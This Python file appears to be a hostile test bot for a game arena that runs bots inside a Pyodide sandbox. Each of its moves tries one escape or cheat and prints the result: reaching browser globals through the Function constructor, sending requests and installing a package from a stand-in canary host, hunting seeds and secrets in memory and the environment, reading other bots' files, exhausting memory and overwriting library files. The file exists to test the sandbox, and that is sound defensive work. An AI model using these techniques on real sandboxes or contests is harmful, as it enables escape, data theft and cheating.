"""A bot that tries to break out of its interpreter: one attempt per decision, whose outcome it prints.

It always plays the first legal action. The test defines the constants in front of this file: the addresses of
the site and of a canary server, and digests of the secrets, by length.
"""
# ruff: noqa: F821, PLC0415, S112, T201

import asyncio
import gc
import importlib
import os
import sys
from hashlib import sha256

WANTED = (
    *("fetch", "XMLHttpRequest", "WebSocket", "importScripts", "Worker", "postMessage", "indexedDB"),
    *("caches", "navigator", "webkitRequestFileSystemSync", "document", "parent", "cookieStore"),
    "addEventListener",
)
SECRET = {"State", "Contest", "Referee", "Match", "Log", "ContestSession", "Journal"}
attempts = []


def attempt(deed):
    """Register a function as an attempt; a true result is a success."""
    attempts.append(deed)
    return deed


def bot(view, rng):
    if attempts:
        deed = attempts.pop(0)
        try:
            got = deed(view, rng)
        except BaseException as error:
            print(deed.__name__, "refused", type(error).__name__)
        else:
            print(deed.__name__, f"GOT {got!r}"[:120] if got else "nothing")
    return view.legal[0]


def proxies():
    """Return all JavaScript objects in memory."""
    found = [one for one in gc.get_objects() if type(one).__name__ == "JsProxy"]
    for module in list(sys.modules.values()):
        found += [one for one in getattr(module, "__dict__", {}).values() if type(one).__name__ == "JsProxy"]
    return found


def reaching(start, depth=4):
    """Return the wanted names that can be reached from JavaScript objects by prototypes and constructors."""
    seen, found = [], set()
    layer = list(start)
    for _ in range(depth):
        layer, before = [], layer
        for one in before:
            if any(one is other for other in seen):
                continue
            seen.append(one)
            for name in (
                *WANTED,
                "self",
                "globalThis",
                "constructor",
                "__proto__",
                "prototype",
                "target",
                "view",
            ):
                try:
                    value = getattr(one, name)
                except BaseException:
                    continue
                if value is not None and name in WANTED:
                    found.add(name)
                if type(value).__name__ == "JsProxy":
                    layer.append(value)
    return sorted(found)


def is_secret(one):
    """Return True if a text or bytes are a secret."""
    raw = one.encode("utf-8", "replace") if isinstance(one, str) else one
    return sha256(raw).hexdigest() in DIGESTS.get(str(len(raw)), ())


def texts():
    """Yield all texts and bytes in memory that have the length of a secret."""
    for thing in gc.get_objects():
        for one in gc.get_referents(thing):
            if isinstance(one, (str, bytes)) and str(len(one)) in DIGESTS:
                yield one


# ------------------------------------------------------------------------------ escape from Python


@attempt
def import_js(_view, _rng):
    return [name for name in WANTED if hasattr(importlib.import_module("js"), name)]


@attempt
def import_pyodide_js(_view, _rng):
    return reaching([importlib.import_module("pyodide_js")])


@attempt
def private_api(_view, _rng):
    return sys.modules["pyodide_js._api"]


@attempt
def modules_of_javascript(_view, _rng):
    names = [name for name in sys.modules if name.partition(".")[0] in {"js", "pyodide_js"}]
    return names if names != ["js"] else reaching([sys.modules["js"]])


@attempt
def finder_of_javascript(_view, _rng):
    hook = importlib.import_module("_pyodide._importhook")
    return reaching([one for one in hook.jsfinder.jsproxies.values() if type(one).__name__ == "JsProxy"])


@attempt
def abort_signal(_view, _rng):
    signal = sys.modules["pyodide_js._api"].abortSignalAny(importlib.import_module("pyodide.ffi").to_js([]))
    return reaching([signal])


@attempt
def listener_without_this(_view, _rng):
    to_js = importlib.import_module("pyodide.ffi").to_js
    return to_js([]).addEventListener.call(None, "message", print)


@attempt
def run_javascript(_view, _rng):
    return importlib.import_module("pyodide.code").run_js("self.origin")


@attempt
def function_constructor(_view, _rng):
    return importlib.import_module("pyodide.ffi").to_js([]).constructor.constructor("return globalThis")()


@attempt
def function_constructor_of_promises(_view, _rng):
    create = importlib.import_module("pyodide.ffi").create_once_callable
    return create(print).constructor("return globalThis")()


@attempt
def proxies_in_memory(_view, _rng):
    return reaching(proxies())


@attempt
def values_that_cross(_view, _rng):
    to_js = importlib.import_module("pyodide.ffi").to_js
    return reaching([to_js([]), to_js({}), to_js(b"bytes"), to_js({"a": [1]}), to_js(print)])


@attempt
def work_in_the_background(_view, _rng):
    asyncio.get_event_loop().call_soon(print, "background GOT")
    return "scheduled"


@attempt
def work_later(_view, _rng):
    asyncio.get_event_loop().call_later(0.001, print, "later GOT")
    return "scheduled"


@attempt
def event_loop(_view, _rng):
    loop = asyncio.new_event_loop()
    return reaching([one for one in vars(loop).values() if type(one).__name__ == "JsProxy"])


@attempt
def events_of_the_browser(_view, _rng):
    return reaching(vars(importlib.import_module("pyodide.ffi.wrappers")).values(), 2)


@attempt
def reloaded_modules(_view, _rng):
    for name in ("pyodide", "_pyodide", "pyodide.webloop", "pyodide.code", "_pyodide._importhook"):
        sys.modules.pop(name, None)
        importlib.import_module(name)
    return reaching(proxies())


@attempt
def core_of_pyodide(_view, _rng):
    core = importlib.import_module("_pyodide_core")
    return reaching([one for one in vars(core).values() if type(one).__name__ == "JsProxy"])


@attempt
def another_process(_view, _rng):
    return importlib.import_module("subprocess").run(["true"], check=True)


@attempt
def a_shell(_view, _rng):
    return os.system("true") == 0  # noqa: S605


@attempt
def a_thread(_view, _rng):
    return importlib.import_module("threading").Thread(target=print).start() or True


# ------------------------------------------------------------------------------ reach the network


def awaited(coroutine):
    """Run a coroutine up to its first wait; by then it has sent its request."""
    return coroutine.send(None)


@attempt
def fetch_of_pyodide(_view, _rng):
    return awaited(importlib.import_module("pyodide.http").pyfetch(CANARY + "pyfetch"))


@attempt
def request_of_pyodide(_view, _rng):
    return importlib.import_module("pyodide.http").open_url(CANARY + "open-url")


@attempt
def request_of_the_site(_view, _rng):
    return importlib.import_module("pyodide.http").open_url(SITE + "canary-open-url")


@attempt
def urllib(_view, _rng):
    return importlib.import_module("urllib.request").urlopen(CANARY + "urllib", timeout=1)


@attempt
def http_client(_view, _rng):
    host = CANARY.split("/")[2]
    connection = importlib.import_module("http.client").HTTPConnection(host, timeout=1)
    connection.request("GET", "/http-client")
    return connection.getresponse()


@attempt
def a_socket(_view, _rng):
    host, port = CANARY.split("/")[2].split(":")
    connected = importlib.import_module("socket").create_connection((host, int(port)), 1)
    connected.sendall(b"GET /socket HTTP/1.0\r\n\r\n")
    return connected.recv(100)


@attempt
def a_package(_view, _rng):
    return awaited(importlib.import_module("micropip").install(CANARY + "wheel-1.0-py3-none-any.whl"))


@attempt
def package_of_pyodide(_view, _rng):
    return awaited(importlib.import_module("pyodide_js").loadPackage(CANARY + "package.js"))


@attempt
def a_browser(_view, _rng):
    return importlib.import_module("webbrowser").open(CANARY + "browser")


# ------------------------------------------------------------------------------ spy on the contest


@attempt
def frames(_view, _rng):
    frame, found = sys._getframe(), set()
    while frame:
        for values in (frame.f_locals, frame.f_globals):
            found |= {type(one).__name__ for one in values.values()} & SECRET
        frame = frame.f_back
    return found


@attempt
def objects(_view, _rng):
    return {type(one).__name__ for one in gc.get_objects()} & SECRET


@attempt
def seed_in_memory(_view, _rng):
    return any(map(is_secret, texts()))


@attempt
def seed_behind_the_stream(_view, rng):
    keys = [getattr(rng, name) for name in type(rng).__slots__]
    return any(is_secret(key) for key in keys if isinstance(key, bytes))


@attempt
def seed_that_is_guessed(_view, _rng):
    from volle.core import chance

    blocks = [
        chance.derive_seed("volle arena", guess, "wolle", 2, block)
        for guess in ("", "0", "1", "2", "a", "x", "s", "seed", "test", "volle", "wolle", "hostile")
        for block in range(8)
    ]
    return any(map(is_secret, blocks))


@attempt
def bid_of_the_rival(view, _rng):
    rivals = [seat for number, seat in enumerate(view.seats) if number != view.seat]
    return view.phase == "bids" and [seat.bid for seat in rivals if seat.bid]


@attempt
def arguments_and_environment(_view, _rng):
    words = " ".join([*sys.argv, *sys.orig_argv, *os.environ, *os.environ.values()]).split()
    return any(map(is_secret, words))


@attempt
def other_bots_files(_view, _rng):
    files = [os.path.join(at, name) for at, _, names in os.walk("/home") for name in names]  # noqa: PTH118
    return [file for file in files if not file.endswith("/fractions.py")]


@attempt
def a_match_of_the_engine(_view, _rng):
    answer = importlib.import_module("volle.web.bridge").handle('{"do": "view", "as": null}')
    return '"view"' in answer


@attempt
def too_much_memory(_view, _rng):
    return len([bytearray(2**28) for _ in range(9)])


# ------------------------------------------------------------------------------ cheat in its own interpreter
# All of this works here, but does not affect the referee.


@attempt
def other_rules(_view, _rng):
    from volle.arena import blocks, messages, play, referee
    from volle.core import chance
    from volle.games import GAMES

    chance.addressed = chance.Stream.below = lambda *_: 0
    blocks.Block._add = referee.Referee.decide = play.play_batch = messages.read_reply = lambda *_: None
    object.__setattr__(GAMES["wolle"], "apply", None)


@attempt
def other_files(_view, _rng):
    for name in ("/lib/volle.zip", "/lib/arena", "/lib/rest"):
        with open(name, "wb") as file:  # noqa: PTH123
            file.write(b"PK nothing")


@attempt
def other_prototypes(_view, _rng):
    listed = importlib.import_module("pyodide.ffi").to_js([])
    listed.constructor.prototype.toString = listed.constructor.prototype.join = None


@attempt
def closed_streams(_view, _rng):
    sys.stdout.close()
    for stream in (0, 1, 2):
        os.close(stream)


@attempt
def another_view(view, _rng):
    object.__setattr__(view, "legal", ())
    object.__setattr__(view, "seat", 1 - view.seat)
